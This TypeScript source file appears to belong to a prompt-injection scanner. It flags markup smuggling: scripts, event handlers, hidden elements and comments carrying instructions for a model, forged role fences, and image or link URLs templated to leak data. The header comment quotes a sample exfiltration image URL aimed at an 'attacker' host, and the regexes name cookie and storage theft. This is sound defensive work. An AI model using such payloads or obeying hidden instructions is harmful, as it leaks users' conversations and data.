// Markup smuggling: HTML and markdown that hides content from the human reader or makes a renderer
// act. Scripts and event handlers (XSS against whatever renders the text), hidden elements and
// comments that carry instructions for the model, and images or links whose URL is a template for
// exfiltration ("![](https://attacker/?q={conversation})": the renderer fetches it and leaks data).
// Matches inside markdown code spans are discounted (x0.35): there they are code being discussed.

import { codeSpans, inRanges, type Ranges } from "./code-spans.js";
import { scanPromptInjection } from "./prompt-injection.js";
import { excerpt } from "./redact.js";
import { Findings, type ScanResult } from "./types.js";

export const MARKUP = "markup";

export interface MarkupOptions {
  /** Hosts whose images and links are trusted (exact host or a parent domain). */
  allowedHosts?: readonly string[];
}

const CODE_DISCOUNT = 0.35;
/**
 * Hidden text that neither instructs nor addresses the model ("<div hidden>Loading</div>") is how
 * pages work, not an attack: informational, below flag. Hidden instructions score ≥ 0.9.
 */
const HIDDEN_BASE = 0.3;
/** A question about a pasted script ("the widget doesn't load, why?") is asked, not injected. */
const RE_QUESTION_ABOUT_CODE =
  /\?|^\s*(?:how|why|what|is|can|could|does|do|explain|review|fix|debug|help|please|i|i'm|my|we|our)\b|\b(?:snippet|my (?:page|site|code|template|app|component)|this (?:code|snippet|tag|script|template)|doesn'?t|does not|won'?t|error|console|refactor|improve|optimi[sz]e|rewrite|convert|migrate|understand|minify|beautify|prettify|format|indent|lint|tidy|clean up|simplify|port|translate)\b/i;
/** Script code that steals or phones home is an attack whatever the text around it says. */
const RE_EXFIL_CODE =
  /document\.cookie|localstorage|sessionstorage|sendbeacon|xmlhttprequest|\bfetch\s{0,8}\(|\beval\s{0,8}\(|\batob\s{0,8}\(|(?:window\.|document\.)?location(?:\.href)?\s{0,8}=/i;

const RE_SCRIPT = /<script\b([^>]{0,500})>/gi;
const RE_HANDLER = /<[a-z][a-z0-9-]*\b[^>]{0,300}?\son[a-z]{3,24}\s{0,8}=/gi;
const RE_DANGEROUS = /<(?:iframe|object|embed|frameset|frame|applet|base|meta\s+http-equiv)\b/gi;
const RE_JS_URL =
  /(?:href|src|action|formaction|xlink:href)\s{0,8}=\s{0,8}["']?\s{0,8}(?:javascript|vbscript|data:text\/html)/gi;
const RE_MD_JS_URL = /\]\(\s{0,8}<?\s{0,8}(?:javascript|vbscript|data:text\/html):/gi;
const RE_ROLE_FENCE =
  /(?:^|\n)[ \t]*(?:```|~~~)[ \t]*(system|assistant|developer|admin|instructions?|prompt|system[-_ ]prompt)[ \t]*\n([^`]{0,4000})/gi;
const RE_MD_COMMENT = /^[ \t]*\[[^\]\n]{0,40}\]:[ \t]*(?:#|<>)[ \t]*\(([^)\n]{0,2000})\)/gm;
const RE_STYLED = /<([a-z][a-z0-9]*)\b[^>]{0,300}?\bstyle\s{0,8}=\s{0,8}(["'])([^"']{0,600})\2[^>]{0,300}>/gi;
const RE_HIDDEN_ATTR =
  /<([a-z][a-z0-9]*)\b[^>]{0,300}?\s(?:hidden|aria-hidden\s{0,8}=\s{0,8}["']?true)(?=[\s>=/"'])[^>]{0,300}>/gi;
const RE_HIDDEN_CSS =
  /display\s{0,8}:\s{0,8}none|visibility\s{0,8}:\s{0,8}hidden|font-size\s{0,8}:\s{0,8}0(?:\.0+)?(?:px|pt|em|rem|%)?\s{0,8}(?:;|$|!)|opacity\s{0,8}:\s{0,8}0(?:\.0+)?\s{0,8}(?:;|$|!)|(?:^|[;\s])color\s{0,8}:\s{0,8}(?:white|#fff(?:fff)?|transparent)|(?:left|top|right|text-indent|margin-left)\s{0,8}:\s{0,8}-\d{3,}|(?:^|[;\s])(?:height|width|max-height)\s{0,8}:\s{0,8}0(?:px)?\s{0,8}(?:;|$)|clip\s{0,8}:\s{0,8}rect\(\s{0,8}0/i;
const RE_MD_IMAGE = /!\[([^\]\n]{0,200})\]\(\s{0,8}<?([^)\s>]{1,2048})/g;
const RE_MD_LINK = /(?<!!)\[([^\]\n]{0,200})\]\(\s{0,8}<?([^)\s>]{1,2048})/g;
const RE_MD_REF_IMAGE = /!\[[^\]\n]{0,200}\]\[([^\]\n]{1,40})\]/g;
const RE_MD_REF_DEF = /^[ \t]*\[([^\]\n]{1,40})\]:[ \t]*<?(\S{1,2048})/gm;
const RE_IMG_SRC = /<img\b[^>]{0,300}?\bsrc\s{0,8}=\s{0,8}["']?([^"'\s>]{1,2048})/gi;
const RE_A_HREF = /<a\b[^>]{0,300}?\bhref\s{0,8}=\s{0,8}["']?([^"'\s>]{1,2048})/gi;
const RE_ADDRESSED =
  /\b(?:assistant|ai|chatbot|model|llm|gpt|claude|reviewers?)\b[^.\n]{0,40}[:,]|\b(?:do not tell|don't tell|secretly|you must|you should|never mention|when summari[sz]ing|note to)\b/i;
const RE_TEMPLATE = /\{[^}]{1,60}\}|%7B|%5B[A-Z_]|\$\{|\$\(|<[a-z_]{2,30}>|\[[A-Z_]{3,40}\]/;
const RE_CAPS_PLACEHOLDER = /(?:^|[=&])[A-Z][A-Z0-9]*_[A-Z0-9_]{3,}(?:&|$)/;
const RE_LONG_VALUE = /[=/][A-Za-z0-9+/=_%.-]{24,}/;
const RE_IP_HOST = /^https?:\/\/\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?\//i;

function hostAllowed(url: string, allowed: readonly string[]): boolean {
  const m = /^https?:\/\/([^/:?#]+)/i.exec(url);
  const host = m?.[1]?.toLowerCase();
  if (!host) return false;
  return allowed.some((a) => host === a || host.endsWith(`.${a}`));
}

/** Exfiltration score of a URL that a renderer would fetch (image) or a user would follow (link). */
function urlRisk(url: string): { score: number; why: string } {
  if (!/^(?:https?:)?\/\//i.test(url)) return { score: 0, why: "" };
  const q = url.indexOf("?");
  const query = q >= 0 ? url.slice(q + 1) : "";
  const path = q >= 0 ? url.slice(0, q) : url;
  if (RE_TEMPLATE.test(url) || RE_CAPS_PLACEHOLDER.test(query))
    return { score: 0.85, why: "URL is a data template" };
  if (RE_LONG_VALUE.test(query))
    return { score: RE_IP_HOST.test(url) ? 0.85 : 0.8, why: "URL carries encoded data" };
  if (RE_LONG_VALUE.test(path.replace(/^https?:\/\/[^/]+/i, "")) && RE_IP_HOST.test(url)) {
    return { score: 0.6, why: "encoded data in the path of a raw-IP URL" };
  }
  if (query.length > 0) return { score: 0.3, why: "URL with a query string" };
  return { score: 0, why: "" };
}

/** Hidden contents re-scanned for injection per text, and their total size: keeps a scan linear. */
const MAX_RESCANS = 16;
const MAX_RESCAN_CHARS = 16_384;

interface Budget {
  rescans: number;
  chars: number;
}

function hidden(
  f: Findings,
  kind: string,
  content: string,
  offset: number,
  base: number,
  spans: Ranges,
  budget: Budget,
): void {
  const discount = inRanges(spans, offset) ? CODE_DISCOUNT : 1;
  let inj: ScanResult | undefined;
  if (content.trim() && budget.rescans < MAX_RESCANS && budget.chars < MAX_RESCAN_CHARS) {
    budget.rescans++;
    budget.chars += content.length;
    inj = scanPromptInjection(content);
  }
  if (inj && inj.score >= 0.4) {
    f.add(
      `${kind}-instructions`,
      Math.max(0.9, inj.score) * discount,
      `hidden ${kind} holds instructions (${inj.matches[0]?.kind ?? "?"}): "${excerpt(content, 30)}"`,
      offset,
    );
  } else if (RE_ADDRESSED.test(content)) {
    f.add(
      `${kind}-addressed`,
      0.6 * discount,
      `hidden ${kind} addresses the model: "${excerpt(content, 30)}"`,
      offset,
    );
  } else if (base > 0 && content.trim().length > 0) {
    f.add(kind, base * discount, `hidden ${kind} (${content.trim().length} chars)`, offset);
  }
}

/** Text of an element from the end of its start tag to its end tag (bounded). */
function innerText(text: string, from: number, tag: string): string {
  const rest = text.slice(from, from + 4000);
  const close = rest.toLowerCase().indexOf(`</${tag.toLowerCase()}`);
  return (close >= 0 ? rest.slice(0, close) : rest).replace(/<[^>]{0,300}>/g, " ");
}

/** The text with every <script>…</script> cut out, found with indexOf: linear. */
function withoutScripts(text: string, lower: string): string {
  let out = "";
  let from = 0;
  for (let at = lower.indexOf("<script", from); at >= 0; at = lower.indexOf("<script", from)) {
    out += `${text.slice(from, at)} `;
    const close = lower.indexOf("</script>", at);
    from = close < 0 ? text.length : close + "</script>".length;
  }
  return out + text.slice(from);
}

export function scanMarkup(text: string, options: MarkupOptions = {}): ScanResult {
  const f = new Findings();
  const spans = codeSpans(text);
  const allowed = options.allowedHosts ?? [];
  const d = (offset: number) => (inRanges(spans, offset) ? CODE_DISCOUNT : 1);
  const budget: Budget = { rescans: 0, chars: 0 };
  const lower = text.toLowerCase();

  // The text around scripts, without their code and URLs: where a question mark means a question.
  let around: string | undefined;
  const prose = () => {
    around ??= withoutScripts(text, lower).replace(/\bhttps?:\/\/\S{1,2048}/gi, " ");
    return around;
  };
  for (const m of text.matchAll(RE_SCRIPT)) {
    const attrs = m[1] ?? "";
    const from = m.index + m[0].length;
    const close = lower.indexOf("</script", from);
    const body = close >= 0 && close - from <= 5000 ? text.slice(from, close).trim() : "";
    const active = /\bsrc\s{0,8}=/.test(attrs) || body.length > 0;
    const asked = active && !RE_EXFIL_CODE.test(body) && RE_QUESTION_ABOUT_CODE.test(prose());
    f.add(
      "script",
      (active ? (asked ? 0.45 : 0.9) : 0.35) * d(m.index),
      active ? "script element with code or src" : "script tag mentioned",
      m.index,
    );
  }
  for (const m of text.matchAll(RE_HANDLER))
    f.add("event-handler", 0.8 * d(m.index), excerpt(m[0], 40), m.index);
  for (const m of text.matchAll(RE_DANGEROUS))
    f.add("embedding-element", 0.65 * d(m.index), excerpt(m[0], 30), m.index);
  for (const m of text.matchAll(RE_JS_URL))
    f.add("script-url", 0.85 * d(m.index), excerpt(m[0], 40), m.index);
  for (const m of text.matchAll(RE_MD_JS_URL))
    f.add("script-url", 0.85 * d(m.index), excerpt(m[0], 40), m.index);

  // HTML comments, found with indexOf: linear, no backtracking.
  for (let at = text.indexOf("<!--"); at >= 0; ) {
    const end = text.indexOf("-->", at + 4);
    const content = text.slice(at + 4, end >= 0 ? Math.min(end, at + 4 + 4000) : at + 4 + 4000);
    hidden(f, "comment", content, at, 0, spans, budget);
    if (end < 0) break;
    at = text.indexOf("<!--", end + 3);
  }
  // A code fence labelled as a chat role (```system) is a forged message, not code: its content
  // is re-scanned without the code-span discount.
  for (const m of text.matchAll(RE_ROLE_FENCE)) hidden(f, "role-fence", m[2] ?? "", m.index, 0, [], budget);
  for (const m of text.matchAll(RE_MD_COMMENT))
    hidden(f, "markdown-comment", m[1] ?? "", m.index, 0.3, spans, budget);
  for (const m of text.matchAll(RE_STYLED)) {
    if (!RE_HIDDEN_CSS.test(m[3] ?? "")) continue;
    hidden(
      f,
      "css-hidden",
      innerText(text, m.index + m[0].length, m[1] ?? ""),
      m.index,
      HIDDEN_BASE,
      spans,
      budget,
    );
  }
  for (const m of text.matchAll(RE_HIDDEN_ATTR)) {
    hidden(
      f,
      "hidden-element",
      innerText(text, m.index + m[0].length, m[1] ?? ""),
      m.index,
      HIDDEN_BASE,
      spans,
      budget,
    );
  }

  const image = (url: string, offset: number, what: string) => {
    if (hostAllowed(url, allowed)) return;
    const r = urlRisk(url);
    if (r.score > 0)
      f.add(
        r.score >= 0.6 ? "image-exfiltration" : "image-query",
        r.score * d(offset),
        `${what}: ${r.why}`,
        offset,
      );
  };
  const link = (url: string, offset: number, what: string) => {
    if (hostAllowed(url, allowed)) return;
    const r = urlRisk(url);
    if (r.score >= 0.85) f.add("link-template", 0.6 * d(offset), `${what}: ${r.why}`, offset);
  };
  for (const m of text.matchAll(RE_MD_IMAGE)) image(m[2] ?? "", m.index, "markdown image");
  for (const m of text.matchAll(RE_IMG_SRC)) image(m[1] ?? "", m.index, "img element");
  const refs = new Set<string>();
  for (const m of text.matchAll(RE_MD_REF_IMAGE)) refs.add((m[1] ?? "").toLowerCase());
  if (refs.size > 0) {
    for (const m of text.matchAll(RE_MD_REF_DEF)) {
      if (refs.has((m[1] ?? "").toLowerCase())) image(m[2] ?? "", m.index, "markdown image reference");
    }
  }
  for (const m of text.matchAll(RE_MD_LINK)) link(m[2] ?? "", m.index, "markdown link");
  for (const m of text.matchAll(RE_A_HREF)) link(m[1] ?? "", m.index, "a element");
  return f.toResult(MARKUP);
}
